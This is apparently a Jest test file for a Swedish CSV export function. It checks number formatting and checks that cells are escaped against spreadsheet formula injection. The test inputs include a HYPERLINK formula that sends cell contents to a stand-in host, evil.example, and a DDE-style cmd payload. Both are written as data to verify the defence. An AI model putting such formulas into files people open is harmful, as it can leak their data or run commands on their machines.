import { describe, expect, it } from '@jest/globals';
import { toSwedishCsv } from './csv';

const lines = (csv: string) => csv.slice(1).split('\r\n');

describe('toSwedishCsv', () => {
  it('writes BOM, semicolons, decimal comma and CRLF; numbers, negative ones too, stay numbers', () => {
    const csv = toSwedishCsv(
      ['Huvudman', 'Värde'],
      [
        ['Örebro kommun', -12.5],
        ['Lekeberg', 1.5125],
        ['Region', null],
      ],
    );
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(lines(csv)).toEqual(['Huvudman;Värde', 'Örebro kommun;-12,5', 'Lekeberg;1,5125', 'Region;', '']);
  });

  it.each([
    ['a formula', '=HYPERLINK("http://evil.example/?x="&A1,"Klicka här")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Klicka här"")"`],
    ['a plus', '+1+cmd|"/c calc"!A0', `"'+1+cmd|""/c calc""!A0"`],
    ['a minus', '-2+3', `"'-2+3"`],
    ['text that looks like a negative number', '-12,5', `"'-12,5"`],
    ['an at sign', '@SUM(A1:A2)', `"'@SUM(A1:A2)"`],
    ['a tab', '\t=1+1', `"'\t=1+1"`],
    ['a carriage return', '\r=1+1', `"'\r=1+1"`],
  ])('writes text starting with %s as text, never a formula', (_label, text, written) => {
    expect(lines(toSwedishCsv(['Anteckning'], [[text]]))[1]).toBe(written);
  });

  it('leaves ordinary text as it is', () => {
    expect(lines(toSwedishCsv(['Anteckning'], [['Uppföljd 2026-12-01; klar']]))[1]).toBe('"Uppföljd 2026-12-01; klar"');
  });
});
